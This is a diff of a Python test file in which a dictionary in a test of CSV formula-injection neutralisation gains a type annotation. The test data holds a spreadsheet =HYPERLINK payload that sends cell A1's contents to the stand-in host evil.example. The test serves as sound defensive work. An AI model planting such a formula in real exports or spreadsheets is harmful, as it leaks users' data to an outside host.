@@ -384,7 +384,7 @@ def test_export_shows_only_what_the_user_may_see_and_audits_reads(
 
 
 def test_csv_export_neutralises_formula_injection(store: Store, tmp_path: Path) -> None:
-    evil = {
+    evil: dict[str, Any] = {
         "id": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
         "nationality": "RU",
         "region": None,
